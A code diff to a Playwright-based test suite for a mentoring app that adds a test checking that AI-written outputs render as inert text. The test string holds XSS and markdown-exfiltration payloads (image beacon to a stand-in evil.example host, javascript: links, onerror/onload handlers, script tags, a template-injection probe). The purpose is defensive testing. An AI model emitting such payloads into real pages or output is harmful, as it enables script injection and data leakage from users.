@@ -17,6 +17,7 @@ import pytest
 from api.admission import ROUTES
 from api.deps import Rooms
 from facilitator.access import VISITOR, Asker, Thing, could, may
+from facilitator.domain.outputs import Stage, Starter
 from facilitator.domain.session import Brief
 from facilitator.facilitation import Facilitator
 from facilitator.settings import Settings
@@ -33,11 +34,18 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser
 
 pytestmark = MARKS
-PAGES = [path for method, path in ROUTE_LIST if method == "GET" and not path.startswith("/api/") and path != "/arrived"]
+PAGES = [path for method, path in ROUTE_LIST if method == "GET" and not path.startswith("/api/") and path != "/arrived" and not Path(path).suffix]
 PEOPLE = ("visitor", "mentor", "mentee", "owner")
 LOOKS: tuple[tuple[Literal["light", "dark"], int], ...] = (("light", 1280), ("dark", 360), ("light", 360), ("dark", 1280))
 NEXT_TO_SIGN_IN = frozenset({"/sign-in", "/join"})
 """Pages for whoever is not signed in; to the others they show something else."""
+
+
+HOSTILE = (
+    "![x](http://evil.example/?d=quokka) [y](javascript:alert(1)) <img src=http://evil.example/a onerror=alert(1)> <svg onload=alert(1)> "
+    "<script>alert(1)</script> <a href='http://evil.example'>z</a> {{ 7 * 7 }}"
+)
+"""What a model must not bring onto a page: each visit asserts that nothing was asked of another site and no script complained."""
 
 
 @dataclass(frozen=True)
@@ -93,8 +101,9 @@ def _outputs(facilitator: Facilitator, store: Store, author: str) -> tuple[str, 
     escalated = store.outputs.keep(an_output(escalation=an_escalation()), author=author)
     held = store.outputs.keep(an_output(verdicts=(a_failure("It talks down to the mentor."),)), author=author)
     uncovered = store.outputs.keep(an_output(decision="release", not_covered="The library holds nothing near enough to this question."), author=author)
+    hostile = store.outputs.keep(an_output(decision="release", items=(Starter(text=HOSTILE, why=HOSTILE, follow_up=HOSTILE, stage=Stage.OPEN),)), author=author)
     return (
-        *(f"/outputs/{one.key}" for one in (starters, answer, recap, escalated, held, uncovered)),
+        f"/outputs/{hostile.key}", *(f"/outputs/{one.key}" for one in (starters, answer, recap, escalated, held, uncovered)),
         f"/outputs/{starters.key}/print", f"/outputs/{recap.key}/print", f"/prepare?again={starters.key}", "/prepare?sample=short-video",
     )  # fmt: skip
 
@@ -127,6 +136,14 @@ def test_there_is_a_person_who_sees_each_page(visited: Visited) -> None:
     seen = {path for who in PEOPLE for path in PAGES if list(visited._address(path, who, VISITOR if who == "visitor" else visited.town.of(who)))}
 
     assert set(PAGES) - seen == set()
+
+
+def test_case_8_what_a_model_wrote_stays_text_and_asks_nobody_for_anything(browser: Browser, visited: Visited) -> None:
+    with walking(browser, visited.at) as walk:
+        page = walk.go(visited.outputs["visitor"][0])
+
+        assert "![x](http://evil.example" in page.inner_text("main")
+        assert page.locator("main img, main svg, main script, main a[href^='http'], main a[href^='javascript']").count() == 0
 
 
 @pytest.mark.parametrize("who", PEOPLE)
